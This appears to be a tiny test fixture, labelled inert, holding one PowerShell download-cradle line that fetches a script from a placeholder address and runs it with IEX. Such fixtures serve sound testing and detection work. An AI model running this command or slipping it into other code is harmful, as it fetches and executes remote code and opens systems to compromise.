# inert test fixture
IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/stage.ps1')
